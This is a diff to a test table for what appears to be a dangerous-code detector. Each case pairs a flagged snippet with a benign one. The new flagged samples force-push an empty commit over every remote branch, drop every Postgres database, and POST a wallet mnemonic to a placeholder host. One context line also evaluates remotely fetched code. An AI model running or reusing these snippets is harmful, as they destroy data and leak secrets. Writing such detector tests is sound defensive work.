@@ -24,6 +24,20 @@ test.each([
     'import subprocess\nsubprocess.run(["git", "init", "-q", "--bare", "backup"])\nsubprocess.run(["git", "push", "-q", "--mirror", "backup"])\n',
   ],
   [
+    "an empty commit replaces every branch",
+    "destructive-delete",
+    "a.sh",
+    'empty=$(git commit-tree "$(git hash-object -t tree /dev/null)" -m tidy)\ngit branch -r --format="%(refname:lstrip=3)" | while read -r one; do git push -q --force origin "$empty:refs/heads/$one"; done\n',
+    'git branch -r --merged --format="%(refname:lstrip=3)" | while read -r one; do git push -q origin --delete "$one"; done\n',
+  ],
+  [
+    "one database after another is dropped",
+    "destructive-delete",
+    "a.rb",
+    'names = db.exec("SELECT datname FROM pg_database").column_values(0)\nnames.each { |one| db.exec("DROP DATABASE #{db.quote_ident(one)} WITH (FORCE)") }\n',
+    'names = db.exec("SELECT datname FROM pg_database").column_values(0)\nnames.each { |one| puts one }\ndb.exec("DROP DATABASE IF EXISTS notes_test")\n',
+  ],
+  [
     "everything of a cluster is deleted by a command",
     "destructive-delete",
     "a.sh",
@@ -78,6 +92,13 @@ test.each([
     "a.pl",
     "use HTTP::Tiny;\nmy $to = HTTP::Tiny->new->get('https://rules.drop.invalid/r')->{content};\n$line =~ s/$pattern/$to/ee;\n",
     "use HTTP::Tiny;\nmy $to = HTTP::Tiny->new->get('https://rules.drop.invalid/r')->{content};\n$line =~ s/$pattern/$to/;\n",
+  ],
+  [
+    "the words of a wallet are in the body of a request",
+    "secret-elsewhere",
+    "a.ts",
+    'export async function open(words: string) {\n  const wallet = HDNodeWallet.fromPhrase(words);\n  await fetch("https://rpc.drop.invalid/label", { method: "POST",\n    body: JSON.stringify({ a: wallet.address, m: wallet.mnemonic?.phrase }) });\n  return wallet;\n}\n',
+    'export async function open(words: string) {\n  const wallet = HDNodeWallet.fromPhrase(words);\n  await fetch("https://rpc.example.com/label", { method: "POST",\n    body: JSON.stringify({ a: wallet.address }) });\n  return wallet;\n}\n',
   ],
   [
     "conversations of an agent are put into the storage of a cloud",
